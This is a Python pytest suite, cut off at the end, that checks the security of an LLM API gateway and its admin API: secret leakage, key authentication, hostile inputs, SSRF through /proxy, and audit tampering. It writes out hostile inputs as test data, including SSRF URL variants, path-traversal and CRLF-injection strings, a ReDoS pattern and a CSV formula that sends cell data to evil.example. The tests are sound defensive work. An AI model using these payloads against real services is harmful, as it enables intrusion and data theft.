"""Security properties of the gateway and the admin API, against the
running stack: no secret in logs, responses, audit records or LMDB files;
every admin route behind the admin key; hostile admin API inputs refused
with a 4xx JSON error while the daemon stays up; /proxy SSRF attempts
refused; file permissions of the data directory.

Review-only properties (not testable from outside): the admin key lookup
hashes the presented key with the instance hash key and looks the hash up
in LMDB, then compares with sodium_memcmp (control-plane/txcp_http.c
txcp_http_auth), so no secret is compared byte by byte."""

import json
import os
import stat
import time

import pytest
import requests

from torrix import ASAN, KEY_PREFIX, MISSING_ID, assert_openai_error, free_port, \
    http, wait_until

PROVIDER_KEY = "sk-upstream-provider-SECRET-0123456789abcdef"
WEBHOOK_SECRET = "whsec-torrix-test-SECRET-9f8e7d6c5b4a"


# -- helpers -----------------------------------------------------------------

def _healthy(stack):
    r = http("GET", stack.cp_url + "/api/v1/health", timeout=5)
    assert r.status_code == 200, r.text
    assert stack.cp_proc.poll() is None, "torrix-cp exited"
    return r.json()


def _assert_json_4xx(r, allowed=None):
    assert 400 <= r.status_code < 500, (r.status_code, r.text[:300])
    if allowed is not None:
        assert r.status_code in allowed, (r.status_code, r.text[:300])
    assert "json" in r.headers.get("content-type", ""), r.headers
    e = r.json()["error"]
    assert isinstance(e.get("type"), str) and e["type"], r.text
    assert isinstance(e.get("message"), str) and e["message"], r.text


def _raw(stack, method, path, data, ctype="application/json", **kw):
    """A request with exactly these body bytes and the admin key."""
    h = {"Authorization": "Bearer " + stack.admin_key,
         "Content-Type": ctype}
    h.update(kw.pop("headers", {}))
    return http(method, stack.cp_url + "/api/v1" + path, data=data,
                headers=h, **kw)


def _data_files(stack):
    out = []
    for root, dirs, files in os.walk(stack.data):
        for n in dirs + files:
            out.append(os.path.join(root, n))
    return out


# -- secrets never leak --------------------------------------------------------

def test_no_secret_leaks_full_lifecycle(stack):
    api = stack.api
    # secrets the harness checks in error.log and torrix-cp's output too
    stack.secrets.add(PROVIDER_KEY)
    stack.secrets.add(WEBHOOK_SECRET)

    org = api.create("orgs", name="acme")
    user = api.create("users", email="a@example.com", name="A",
                      org_id=org["id"])
    proj = api.create("projects", slug="app", name="App", org_id=org["id"])

    # the mock is the provider; its credential set through the API
    api.ok("PUT", "/providers/openai",
           {"kind": "openai", "base_url": stack.mock.url + "/v1",
            "api_key": PROVIDER_KEY})
    wh = api.create("webhooks", url="http://127.0.0.1:%d/hook" % free_port(),
                    secret=WEBHOOK_SECRET, name="hook")
    api.ok("PATCH", "/webhooks/" + wh["id"], {"secret": WEBHOOK_SECRET + "2"})
    stack.secrets.add(WEBHOOK_SECRET + "2")
    api.ok("PATCH", "/settings", {"sample_rate": 1})

    k = api.create_key(project_id=proj["id"], user_id=user["id"],
                       name="leaky")
    secret1 = k["key"]
    stack.wait_status(lambda: stack.chat(secret1), 200, 2.0)
    up = stack.mock.requests[-1]
    assert up.header("Authorization") == "Bearer " + PROVIDER_KEY
    assert KEY_PREFIX not in up.raw()

    rot = api.ok("POST", "/keys/%s/rotate" % k["id"], {"grace_seconds": 60})
    secret2 = rot["key"]
    assert secret2.startswith(KEY_PREFIX) and secret2 != secret1
    stack.wait_status(lambda: stack.chat(secret2), 200, 2.0)
    # an unknown key and a bad admin key: refused, never echoed
    bogus = KEY_PREFIX + "A" * 43
    stack.secrets.add(bogus)
    assert_openai_error(stack.chat(bogus), 401)
    r = api.get("/keys", key=bogus)
    assert r.status_code == 401 and bogus not in r.text
    stack.wait_runs(3)

    secrets = [secret1, secret2, bogus, stack.admin_key, PROVIDER_KEY,
               WEBHOOK_SECRET, WEBHOOK_SECRET + "2"]

    # every read of the API
    bodies = {}
    runs = stack.runs()
    paths = ["/keys", "/keys/" + k["id"], "/providers", "/providers/openai",
             "/settings", "/webhooks", "/webhooks/" + wh["id"], "/alerts",
             "/audit", "/audit?order=asc&limit=1000", "/audit/verify",
             "/runs", "/logs", "/errors", "/spend?by=key",
             "/spend?by=user", "/usage/users", "/orgs", "/users",
             "/projects", "/users/%s/activity.csv" % user["id"]]
    paths += ["/runs/" + run["id"] for run in runs]
    for p in paths:
        r = api.get(p)
        assert r.status_code == 200, (p, r.status_code, r.text)
        bodies[p] = r.text
    prov = json.loads(bodies["/providers/openai"])
    assert prov.get("api_key_set") is True and "api_key" not in prov, prov
    whj = json.loads(bodies["/webhooks/" + wh["id"]])
    assert whj.get("secret_set") is True and "secret" not in whj, whj

    api.ok("DELETE", "/keys/" + k["id"])
    api.ok("DELETE", "/webhooks/" + wh["id"])
    api.ok("DELETE", "/providers/openai")
    bodies["audit-final"] = api.get("/audit?limit=1000").text
    audit = json.loads(bodies["audit-final"])["data"]
    redacted = [a for a in audit if "[redacted]" in json.dumps(a["diff"])]
    assert redacted, "secret changes not marked [redacted] in the audit"
    assert api.ok("GET", "/audit/verify")["ok"] is True

    for p, text in bodies.items():
        for s in secrets:
            assert s not in text, "%s leaks a secret %s..." % (p, s[:14])
        # a 256-bit key's tail must not show either (only the prefix)
        for s in (secret1, secret2):
            assert s[len(KEY_PREFIX) + 8:] not in text, p

    # the stores on disk: virtual and admin keys only as keyed hashes
    stack.stop_nginx()
    stack.stop_cp()
    for f in ("store/data.mdb", "snapshot/data.mdb"):
        data = (stack.data / f).read_bytes()
        for s in (secret1, secret2, stack.admin_key):
            assert s.encode() not in data, "%s holds a key secret" % f
            assert s[len(KEY_PREFIX):].encode() not in data, f
    snap = (stack.data / "snapshot/data.mdb").read_bytes()
    # the data plane never needs webhook secrets
    assert WEBHOOK_SECRET.encode() not in snap
    # spool files and the temp dir logs: no key, no admin key
    for f in stack.tmp.rglob("*"):
        if f.is_file() and f.suffix in (".txs", ".log", ".err", ".out") \
                and f.name != "admin.key":
            data = f.read_bytes()
            for s in (secret1, secret2, bogus, stack.admin_key,
                      PROVIDER_KEY, WEBHOOK_SECRET):
                if f.name == "cp.0.out" and s == stack.admin_key:
                    continue        # printed once at first start, by design
                assert s.encode() not in data, "%s leaks %s..." % (f, s[:14])
    stack.start_cp()    # the fixture's teardown expects it running


def test_data_dir_permissions(stack):
    k = stack.api.create_key()
    stack.wait_status(lambda: stack.chat(k["key"]), 200, 2.0)
    stack.wait_runs(1)
    keyfile = stack.data / "admin.key"
    assert stat.S_IMODE(keyfile.stat().st_mode) == 0o600
    for p in _data_files(stack):
        st = os.lstat(p)
        mode = stat.S_IMODE(st.st_mode)
        if stat.S_ISLNK(st.st_mode):
            continue
        if stat.S_ISDIR(st.st_mode):
            # traversal only (x) for others at most, never listing/writing
            assert not mode & 0o006, "%s is %o" % (p, mode)
        else:
            assert not mode & 0o007, "%s is world-accessible: %o" % (p, mode)
        rel = os.path.relpath(p, stack.data)
        if rel.startswith("store"):
            # the source of truth: owner only
            assert not mode & 0o077, "%s is %o" % (p, mode)


# -- admin API authentication ----------------------------------------------

ROUTES = [
    ("POST", "/orgs"), ("GET", "/orgs"), ("GET", "/orgs/ID"),
    ("PATCH", "/orgs/ID"), ("DELETE", "/orgs/ID"),
    ("POST", "/users"), ("GET", "/users"), ("GET", "/users/ID"),
    ("PATCH", "/users/ID"), ("DELETE", "/users/ID"),
    ("GET", "/users/ID/activity.csv"),
    ("POST", "/projects"), ("GET", "/projects"), ("GET", "/projects/ID"),
    ("PATCH", "/projects/ID"), ("DELETE", "/projects/ID"),
    ("POST", "/keys"), ("GET", "/keys"), ("GET", "/keys/ID"),
    ("PATCH", "/keys/ID"), ("DELETE", "/keys/ID"),
    ("POST", "/keys/ID/rotate"),
    ("GET", "/providers"), ("GET", "/providers/openai"),
    ("PUT", "/providers/openai"), ("DELETE", "/providers/openai"),
    ("GET", "/settings"), ("PATCH", "/settings"),
    ("GET", "/runs"), ("GET", "/runs/ID"),
    ("GET", "/pricing"), ("GET", "/pricing/gpt-4o"),
    ("PUT", "/pricing/gpt-4o"), ("DELETE", "/pricing/gpt-4o"),
    ("PUT", "/pricing/org/model/with/slashes"),
    ("POST", "/pricing/import"),
    ("GET", "/spend?by=key"), ("GET", "/spend/scopes?scope=key&id=ID"),
    ("GET", "/usage/users"), ("GET", "/logs"), ("GET", "/errors"),
    ("GET", "/webhooks"), ("POST", "/webhooks"), ("GET", "/webhooks/ID"),
    ("PATCH", "/webhooks/ID"), ("DELETE", "/webhooks/ID"),
    ("GET", "/alerts"), ("GET", "/audit"), ("GET", "/audit/verify"),
    # trailing slash variants are routed too
    ("GET", "/keys/"), ("GET", "/audit/verify/"),
]


def _bad_auth_headers(admin_key):
    return [
        {},
        {"Authorization": ""},
        {"Authorization": "Bearer"},
        {"Authorization": "Bearer "},
        {"Authorization": "Bearer " + admin_key[:-1]},
        {"Authorization": "Bearer " + admin_key + "x"},
        {"Authorization": "Bearer " + admin_key.upper()},
        {"Authorization": "Basic " + admin_key},
        {"Authorization": admin_key},
        {"Authorization": "Bearer " + "A" * 300},
        {"X-Api-Key": admin_key},
        {"Cookie": "token=" + admin_key},
    ]


def test_every_route_needs_the_admin_key(stack):
    api = stack.api
    org = api.create("orgs", name="o1")
    k = api.create_key()
    ids = {"/orgs/ID": org["id"], "/keys/ID": k["id"]}
    before = api.ok("GET", "/audit?limit=1000")["data"]
    body = json.dumps({"name": "x"})
    for base in (stack.cp_url, stack.url):      # direct and through nginx
        for method, path in ROUTES:
            p = path
            for pre, real in ids.items():
                if p.startswith(pre):
                    p = p.replace("ID", real, 1)
            p = p.replace("ID", MISSING_ID)
            for h in _bad_auth_headers(stack.admin_key):
                h = dict(h, **{"Content-Type": "application/json"})
                r = http(method, base + "/api/v1" + p, headers=h,
                         data=body if method in ("POST", "PUT", "PATCH")
                         else None)
                assert r.status_code == 401, (method, p, h.keys(),
                                              r.status_code, r.text[:200])
                _assert_json_4xx(r, (401,))
                assert r.headers.get("access-control-allow-origin") is None
            # the admin key in the query string is not a credential
            r = http(method, base + "/api/v1" + p +
                     ("&" if "?" in p else "?") + "key=" + stack.admin_key,
                     headers={"Content-Type": "application/json"},
                     data=body if method != "GET" else None)
            assert r.status_code == 401, (method, p, r.status_code)
    # nothing was written by any of those calls
    after = api.ok("GET", "/audit?limit=1000")["data"]
    assert len(after) == len(before)
    assert api.ok("GET", "/keys/" + k["id"])["status"] == "active"
    assert api.ok("GET", "/orgs/" + org["id"])["name"] == "o1"
    # the health check is public and says nothing else
    # (it also shows version and ingest counters, more than the README's
    # {"status","schema"}: informational, no ids or secrets)
    h = http("GET", stack.cp_url + "/api/v1/health").text
    assert "key_" not in h and "org_" not in h and KEY_PREFIX not in h, h
    assert stack.admin_key not in h


def test_no_cors_and_no_method_override(stack):
    api = stack.api
    k = api.create_key()
    # a browser preflight from another origin is not granted
    r = http("OPTIONS", stack.cp_url + "/api/v1/keys",
             headers={"Origin": "https://evil.example",
                      "Access-Control-Request-Method": "DELETE",
                      "Access-Control-Request-Headers": "authorization"})
    assert r.headers.get("access-control-allow-origin") is None, r.headers
    assert r.headers.get("access-control-allow-credentials") is None
    assert not (200 <= r.status_code < 300) or \
        "access-control-allow-methods" not in r.headers
    # the key is never taken from a cookie or the query
    r = api.get("/keys", headers={"Origin": "https://evil.example"})
    assert r.status_code == 200
    assert r.headers.get("access-control-allow-origin") is None
    # an override header does not turn a GET into a DELETE
    r = api.get("/keys/" + k["id"],
                headers={"X-HTTP-Method-Override": "DELETE"})
    assert r.status_code == 200
    assert api.ok("GET", "/keys/" + k["id"])["status"] == "active"
    # responses are not cacheable
    assert "no-store" in api.get("/keys").headers.get("cache-control", "")


# -- hostile admin API input ------------------------------------------------

DEEP = "[" * 100000 + "]" * 100000
DEEP_OBJ = '{"name":' + '{"a":' * 5000 + '1' + '}' * 5000 + '}'

HOSTILE_BODIES = [
    # money
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":-1}'),
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":-0.000000001}'),
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":1e309}'),
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":-1e309}'),
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":NaN}'),
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":Infinity}'),
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":-Infinity}'),
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":1e9}'),
    ("POST", "/keys", '{"name":"k","monthly_budget_usd":"12.5"}'),
    ("POST", "/keys", '{"name":"k","daily_cap_usd":92233720368.54775807}'),
    ("POST", "/orgs", '{"name":"o","spend_cap_usd":-5}'),
    ("POST", "/projects", '{"slug":"p","name":"p","monthly_cap_usd":-5}'),
    ("PATCH", "/settings", '{"instance_daily_cap_usd":-1}'),
    ("PATCH", "/settings", '{"instance_daily_cap_usd":1e999}'),
    ("PATCH", "/settings", '{"sample_rate":1.0000001}'),
    ("PATCH", "/settings", '{"sample_rate":-0.1}'),
    ("PATCH", "/settings", '{"sample_rate":NaN}'),
    ("PUT", "/pricing/sec-model", '{"input_per_mtok_usd":-1,'
                                  '"output_per_mtok_usd":1}'),
    ("PUT", "/pricing/sec-model", '{"input_per_mtok_usd":1e300,'
                                  '"output_per_mtok_usd":1}'),
    # integers
    ("POST", "/keys", '{"name":"k","rpm":-1}'),
    ("POST", "/keys", '{"name":"k","rpm":1.5}'),
    ("POST", "/keys", '{"name":"k","rpm":9223372036854775808}'),
    ("POST", "/keys", '{"name":"k","rpm":9223372036854775807}'),
    ("POST", "/keys", '{"name":"k","tpm":1e300}'),
    ("POST", "/keys", '{"name":"k","soft_alert_pct":0}'),
    ("POST", "/keys", '{"name":"k","soft_alert_pct":101}'),
    ("POST", "/keys", '{"name":"k","expires_at":-1}'),
    ("POST", "/keys", '{"name":"k","expires_at":1e300}'),
    ("POST", "/keys", '{"name":"k","expires_at":"99999-01-01T00:00:00Z"}'),
    ("POST", "/keys", '{"name":"k","expires_at":"2026-13-45T99:99:99Z"}'),
    ("PATCH", "/settings", '{"retention_days":-1}'),
    ("PATCH", "/settings", '{"default_max_tokens":1e20}'),
    # types and structure
    ("POST", "/keys", '{"name":"k","allowed_models":"gpt"}'),
    ("POST", "/keys", '{"name":"k","allowed_models":[1,2]}'),
    ("POST", "/keys", '{"name":"k","metadata":{"a":1}}'),
    ("POST", "/keys", '{"name":"k","metadata":{"a":{"b":"c"}}}'),
    ("POST", "/keys", '{"name":"k","name":"dup"}'),
    ("POST", "/keys", '{"name":"k","unknown_field":1}'),
    ("POST", "/keys", '{"name":"k","key":"sk-torrix-chosen"}'),
    ("POST", "/keys", '{"name":"k","id":"key_chosen"}'),
    ("POST", "/keys", '{"name":"k","status":"active"}'),
    ("POST", "/keys", '[]'),
    ("POST", "/keys", '"string"'),
    ("POST", "/keys", 'null'),
    ("POST", "/keys", '{"name":"k"'),
    ("POST", "/keys", '{"name":"k"} trailing'),
    ("POST", "/keys", '{"name":"k"}{"name":"k"}'),
    ("POST", "/keys", DEEP),
    ("POST", "/keys", DEEP_OBJ),
    ("PATCH", "/settings", '{"pii_rules":{"X":"(a+)+$"}, "pii_rules":{}}'),
    ("PATCH", "/settings", '{"pii_rules":{"X":"([unclosed"}}'),
    ("PATCH", "/settings", '{"proxy_targets":["ftp://127.0.0.1/"]}'),
    ("POST", "/webhooks", '{"url":"file:///etc/passwd"}'),
    ("POST", "/webhooks", '{"url":"gopher://127.0.0.1:25/"}'),
    ("POST", "/webhooks", '{"url":"http://127.0.0.1/\\r\\nX-Injected: 1"}'),
    ("PUT", "/providers/openai", '{"base_url":"file:///etc/passwd"}'),
    ("PUT", "/providers/openai", '{"base_url":"http://x/\\r\\nX: 1"}'),
    ("PUT", "/providers/openai", '{"api_key":"sk-a\\r\\nX-Injected: 1"}'),
    ("PUT", "/providers/openai", '{"api_key":"sk-\\u0000tail"}'),
    # strings
    ("POST", "/keys", '{"name":"' + "n" * 900000 + '"}'),
    ("POST", "/orgs", '{"name":"a\\u0000b"}'),
    ("POST", "/orgs", '{"name":"a\\u0001b"}'),
    ("POST", "/orgs", '{"name":"a\\nb"}'),
    ("POST", "/users", '{"email":"x@y.z\\r\\nBcc: v@w.x","name":"u"}'),
    ("POST", "/projects", '{"slug":"../../etc","name":"p"}'),
    ("POST", "/projects", '{"slug":"UPPER","name":"p"}'),
]


def test_hostile_bodies_refused(stack):
    api = stack.api
    n_audit = len(api.ok("GET", "/audit?limit=1000")["data"])
    bad = []
    for method, path, body in HOSTILE_BODIES:
        r = _raw(stack, method, path, body.encode())
        try:
            _assert_json_4xx(r)
        except AssertionError:
            bad.append((method, path, body[:80], r.status_code))
        _healthy(stack)
    assert not bad, bad
    # a body over 1 MiB and a lying Content-Length
    r = _raw(stack, "POST", "/keys",
             ('{"name":"' + "n" * (1 << 20) + '"}').encode())
    _assert_json_4xx(r, (413,))
    _healthy(stack)
    # a raw NUL byte, and a non-JSON content type with JSON-ish junk
    _assert_json_4xx(_raw(stack, "POST", "/orgs", b'{"name":"a\x00b"}'))
    _assert_json_4xx(_raw(stack, "POST", "/orgs", b'\xff\xfe{"name":1}'))
    _healthy(stack)
    # nothing of this was written
    assert len(api.ok("GET", "/audit?limit=1000")["data"]) == n_audit
    assert api.list_all("/keys") == []
    # a Content-Length beyond any size, on a raw socket
    import socket
    with socket.create_connection(("127.0.0.1", stack.cp_port)) as s:
        s.settimeout(5)
        s.sendall(b"POST /api/v1/keys HTTP/1.1\r\nHost: x\r\n"
                  b"Authorization: Bearer " + stack.admin_key.encode() +
                  b"\r\nContent-Length: 99999999999999999999\r\n\r\n{}")
        head = s.recv(4096)
    assert head.split(b" ")[1][:1] == b"4", head[:100]
    _healthy(stack)


def test_invalid_utf8_refused_or_kept_valid(stack):
    for raw in (b'{"name":"a\xffb"}', b'{"name":"\xc0\xaf"}',
                b'{"name":"\xed\xa0\x80"}', b'{"name":"a\xe2\x82"}'):
        r = _raw(stack, "POST", "/orgs", raw)
        _healthy(stack)
        if r.status_code == 201:
            got = stack.api.get("/orgs")
            got.content.decode("utf-8")     # must be valid UTF-8
        else:
            _assert_json_4xx(r)


def test_lone_surrogate_escape(stack):
    """JSON escapes of lone surrogates must not produce invalid UTF-8."""
    for s in ('{"name":"\\ud800"}', '{"name":"\\udc00x"}',
              '{"name":"\\ud800\\u0041"}'):
        r = _raw(stack, "POST", "/orgs", s.encode())
        _healthy(stack)
        if r.status_code == 201:
            stack.api.get("/orgs").content.decode("utf-8")
        else:
            _assert_json_4xx(r)


HOSTILE_PATHS = [
    ("GET", "/keys/..%2f..%2fadmin.key"),
    ("GET", "/keys/../../admin.key"),
    ("GET", "/keys/%2e%2e"),
    ("GET", "/keys/key_x%00"),
    ("GET", "/keys/" + "k" * 5000),
    ("GET", "/keys/%ff%fe"),
    ("DELETE", "/keys/%2A"),
    ("DELETE", "/keys/*"),
    ("GET", "/orgs/..%2fkeys"),
    ("GET", "/runs/..%2f..%2f"),
    ("GET", "/runs/zzzz"),
    ("GET", "/runs/" + "f" * 64),
    ("GET", "/pricing/..%2f..%2fsettings"),
    ("GET", "/pricing/" + "m" * 5000),
    ("GET", "/users/../activity.csv"),
    ("GET", "/webhooks/%0d%0aX-Injected:%201"),
    ("GET", "/providers/..%2f..%2fstore"),
    ("PUT", "/providers/../../x"),
    ("GET", "/keys?limit=0"), ("GET", "/keys?limit=-1"),
    ("GET", "/keys?limit=1001"), ("GET", "/keys?limit=1e3"),
    ("GET", "/keys?limit=99999999999999999999"),
    ("GET", "/keys?cursor=%00%ff"), ("GET", "/keys?cursor=" + "c" * 5000),
    ("GET", "/audit?cursor=-1"), ("GET", "/audit?cursor=99999999999999999999"),
    ("GET", "/runs?since=-1"), ("GET", "/runs?until=99999999999999999999"),
    ("GET", "/runs?since=9223372036854775807"),
    ("GET", "/runs?tag=%00"), ("GET", "/runs?status=abc"),
    ("GET", "/spend?by=nope"),
    ("GET", "/spend?by=key&since=2026-13-01T00:00:00Z"),
    ("GET", "/spend/scopes?scope=../../x&id=y"),
    ("GET", "/alerts?level=nope"),
]


def test_hostile_paths_and_queries(stack):
    api = stack.api
    bad = []
    for method, path in HOSTILE_PATHS:
        r = api.request(method, path,
                        body={"base_url": "http://x"} if method == "PUT"
                        else None)
        # a list with a bad parameter may be refused (400) or ignored; it
        # must never be a 5xx nor expose anything but JSON
        assert r.status_code < 500, (method, path, r.status_code, r.text)
        if r.status_code >= 400:
            _assert_json_4xx(r)
        elif not path.startswith(("/keys?", "/audit?", "/runs?",
                                  "/spend", "/alerts")):
            bad.append((method, path, r.status_code, r.text[:100]))
        assert b"hash_key" not in r.content and \
            stack.admin_key not in r.text
        _healthy(stack)
    assert not bad, bad


def test_settings_refuse_unmatchable_proxy_targets(stack):
    bad = []
    for t in ("http://u:p@127.0.0.1/", "http://127.0.0.1/#x",
              "http://127.0.0.1/a/../b", "http://127.0.0.1/%2e%2e/b"):
        r = stack.api.patch("/settings", {"proxy_targets": [t]})
        if r.status_code != 400:
            bad.append((t, r.status_code))
        _healthy(stack)
    assert not bad, bad


def test_encoded_nul_in_path_refused(stack):
    org = stack.api.create("orgs", name="keepme")
    for method, path in (("GET", "/keys/%00"),
                         ("GET", "/users/%00/activity.csv"),
                         ("DELETE", "/orgs/%s%%00/x" % org["id"])):
        r = stack.api.request(method, path)
        assert 400 <= r.status_code < 500, (method, path, r.status_code)
    assert stack.api.get("/orgs/" + org["id"]).status_code == 200


def test_spend_huge_time_bounds_refused(stack):
    if ASAN:
        pytest.skip("would abort torrix-cp under UBSan (the bug itself)")
    for q in ("since=9223372036854775807",
              "since=0&until=9223372036854775807",
              "until=99999999999999"):
        r = stack.api.get("/spend?by=key&" + q)
        _healthy(stack)
        assert r.status_code == 400, (q, r.status_code, r.text[:200])


def test_many_connections_slow_body_daemon_stays_up(stack):
    """Half-sent bodies do not block the API for others."""
    import socket
    socks = []
    try:
        for _ in range(50):
            s = socket.create_connection(("127.0.0.1", stack.cp_port))
            s.sendall(b"POST /api/v1/keys HTTP/1.1\r\nHost: x\r\n"
                      b"Content-Length: 1000\r\n\r\n{")
            socks.append(s)
        t0 = time.monotonic()
        _healthy(stack)
        assert stack.api.get("/keys").status_code == 200
        assert time.monotonic() - t0 < 2
    finally:
        for s in socks:
            s.close()


# -- /proxy: no SSRF -----------------------------------------------------------

def _proxy(stack, key, target, **kw):
    h = {"x-target-url": target}
    h.update(kw.pop("headers", {}))
    return stack.gw("POST", "/proxy", key, {"x": 1}, headers=h, **kw)


def test_proxy_ssrf_forms_refused(stack):
    mp = stack.mock.port
    # allow exactly one path prefix of the mock, by IP
    allowed = "http://127.0.0.1:%d/v1/" % mp
    stack.api.ok("PATCH", "/settings", {"proxy_targets": [allowed]})
    k = stack.api.create_key()["key"]
    stack.wait_status(lambda: _proxy(stack, k, allowed + "ok"), 200, 2.0)
    n = len(stack.mock.requests)
    targets = [
        # other spellings of 127.0.0.1 (not listed: refused)
        "http://2130706433:%d/v1/x" % mp,
        "http://0x7f000001:%d/v1/x" % mp,
        "http://0x7f.0.0.1:%d/v1/x" % mp,
        "http://0177.0.0.1:%d/v1/x" % mp,
        "http://017700000001:%d/v1/x" % mp,
        "http://127.1:%d/v1/x" % mp,
        "http://127.0.0.1.:%d/v1/x" % mp,
        "http://127.000.000.001:%d/v1/x" % mp,
        "http://[::1]:%d/v1/x" % mp,
        "http://[::ffff:127.0.0.1]:%d/v1/x" % mp,
        "http://[::ffff:7f00:1]:%d/v1/x" % mp,
        "http://[0:0:0:0:0:ffff:127.0.0.1]:%d/v1/x" % mp,
        "http://[::127.0.0.1]:%d/v1/x" % mp,
        "http://0.0.0.0:%d/v1/x" % mp,
        "http://0:%d/v1/x" % mp,
        "http://localhost:%d/v1/x" % mp,
        "http://localhost.:%d/v1/x" % mp,
        "http://mock_up/v1/x",            # the name of an upstream{} block
        "http://mock_up:80/v1/x",
        # user info, in all its forms
        "http://u@127.0.0.1:%d/v1/x" % mp,
        "http://u:p@127.0.0.1:%d/v1/x" % mp,
        "http://127.0.0.1:%d@127.0.0.1:%d/v1/x" % (mp, mp),
        "http://127.0.0.1%%40evil.com:%d/v1/x" % mp,
        "http://evil.com\\@127.0.0.1:%d/v1/x" % mp,
        "http://evil.com#@127.0.0.1:%d/v1/x" % mp,
        # port, scheme, path prefix
        "http://127.0.0.1/v1/x",
        "http://127.0.0.1:%d/v1/x" % free_port(),
        "http://127.0.0.1:0%d/v1/x" % mp,
        "http://127.0.0.1:+%d/v1/x" % mp,
        "https://127.0.0.1:%d/v1/x" % mp,
        "HTTP://127.0.0.1:%d/v2/x" % mp,
        "http://127.0.0.1:%d/v1" % mp,
        "http://127.0.0.1:%d/v10/x" % mp,
        "http://127.0.0.1:%d/" % mp,
        "http://127.0.0.1:%d?/v1/" % mp,
        "http://127.0.0.1:%d/v2/../v1/x" % mp,
        "http://127.0.0.1:%d/v1/../admin" % mp,
        "http://127.0.0.1:%d/v1/%%2e%%2e/admin" % mp,
        "http://127.0.0.1:%d/v1/.%%2E/admin" % mp,
        "http://127.0.0.1:%d/v1/%%2e./admin" % mp,
        "http://127.0.0.1:%d/v1/..%%2fadmin" % mp,
        "http://127.0.0.1:%d/v1%%2f..%%2fadmin" % mp,
        "http://127.0.0.1:%d/v1/..%%5cadmin" % mp,
        "http://127.0.0.1:%d/v1/.." % mp,
        # odd schemes and forms
        "//127.0.0.1:%d/v1/x" % mp,
        "http:/127.0.0.1:%d/v1/x" % mp,
        "http:///127.0.0.1:%d/v1/x" % mp,
        "gopher://127.0.0.1:%d/v1/x" % mp,
        "file:///etc/passwd",
        "http://127.0.0.1:%d/v1/x\tX" % mp,
        "http://127.0.0.1:%d/v1/x y" % mp,
    ]
    for t in targets:
        r = _proxy(stack, k, t)
        assert r.status_code in (400, 403), (t, r.status_code, r.text[:200])
    assert len(stack.mock.requests) == n, \
        [q.path for q in stack.mock.requests[n:]]


def test_proxy_header_injection_and_redirects(stack):
    mp = stack.mock.port
    stack.api.ok("PATCH", "/settings",
                 {"proxy_targets": ["http://127.0.0.1:%d" % mp]})
    key = stack.api.create_key()["key"]
    target = "http://127.0.0.1:%d/v1/x" % mp
    stack.wait_status(lambda: _proxy(stack, key, target), 200, 2.0)
    r = _proxy(stack, key, target, headers={
        "x-upstream-authorization": "Bearer up",
        "x-torrix-tags": "a=b", "x-torrix-user": "u", "Cookie": "c=1",
        "x-api-key": key, "Host": "evil.example",
        "X-Forwarded-Host": "evil.example"})
    assert r.status_code == 200, r.text
    up = stack.mock.requests[-1]
    assert KEY_PREFIX not in up.raw()
    assert up.header("Host") == "127.0.0.1:%d" % mp
    for h in ("x-target-url", "x-upstream-authorization", "x-torrix-tags",
              "x-torrix-user", "cookie", "x-api-key"):
        assert up.header(h) is None, h
    assert up.header("Authorization") == "Bearer up"
    # the proxy module does not follow redirects: nginx answers what the
    # upstream said, the gateway does not fetch the Location itself
    assert "proxy_redirect" not in \
        (stack.tmp / "nginx.conf").read_text()


def test_gateway_key_never_forwarded_on_provider_routes(stack):
    k = stack.api.create_key()["key"]
    stack.wait_status(lambda: stack.chat(k), 200, 2.0)
    r = stack.chat(k, headers={"x-target-url": "http://evil.example/",
                               "x-upstream-authorization": "Bearer stolen",
                               "x-api-key": k})
    assert r.status_code == 200, r.text
    up = stack.mock.requests[-1]
    assert KEY_PREFIX not in up.raw()
    assert up.header("x-target-url") is None
    assert up.header("x-upstream-authorization") is None
    assert up.header("Authorization") == "Bearer sk-upstream-openai-test"
    r = stack.messages(k)
    assert r.status_code == 200, r.text
    assert KEY_PREFIX not in stack.mock.requests[-1].raw()


# -- CSV export ------------------------------------------------------------------

def test_activity_csv_formula_injection(stack):
    api = stack.api
    org = api.create("orgs", name="o")
    user = api.create("users", email="b@example.com", name="B",
                      org_id=org["id"])
    k = api.create_key(user_id=user["id"], allowed_models="*")["key"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    stack.wait_status(lambda: stack.chat(k, model=evil), 200, 2.0)
    stack.wait_runs(1)

    def csv():
        r = api.get("/users/%s/activity.csv" % user["id"])
        assert r.status_code == 200, r.text
        return r.text if "HYPERLINK" in r.text else None
    text = wait_until(csv, 5, 0.1, "csv row")[0]
    for line in text.splitlines()[1:]:
        for cell in line.split(","):
            c = cell.lstrip('"')
            assert not c.startswith(("=", "+", "-", "@")), line


# -- audit chain -------------------------------------------------------------------

def test_audit_tamper_detected_online_and_offline(cp):
    api = cp.api
    for i in range(3):
        api.create("orgs", name="o%d" % i)
    v = api.ok("GET", "/audit/verify")
    assert v["ok"] is True and v["records"] >= 3
    # no API route can write or delete audit records
    for m in ("POST", "PUT", "PATCH", "DELETE"):
        r = api.request(m, "/audit", {"x": 1})
        assert r.status_code in (404, 405), (m, r.status_code)
        r = api.request(m, "/audit/1", {"x": 1})
        assert r.status_code in (404, 405), (m, r.status_code)
    cp.stop_cp()
    r = cp.cp_cli("audit", "tamper", "--data", cp.data, "--seq", 2)
    assert r.returncode == 0, r.stderr
    r = cp.cp_cli("audit", "verify", "--data", cp.data)
    assert r.returncode == 1, (r.stdout, r.stderr)
    cp.start_cp()
    v = cp.api.ok("GET", "/audit/verify")
    assert v["ok"] is False and v["broken_at"] == 2, v
    # the tamper aid is refused outside tests
    env = cp.cp_env()
    env.pop("TORRIX_TEST")
    import subprocess
    from torrix import CP_BIN
    p = subprocess.run([str(CP_BIN), "audit", "tamper", "--data",
                        str(cp.data), "--seq", "1"], env=env,
                       capture_output=True, timeout=30)
    assert p.returncode != 0


def test_gateway_rejects_leave_no_key_in_errors(stack):
    """Errors of the gateway do not echo the presented credential."""
    bogus = KEY_PREFIX + "B" * 43
    stack.secrets.add(bogus)
    for h in ({"Authorization": "Bearer " + bogus},
              {"x-api-key": bogus},
              {"Authorization": "Bearer " + bogus + "\x7f"},
              {"Authorization": "Bearer " + "x" * 8000}):
        try:
            r = stack.gw("POST", "/v1/chat/completions", None,
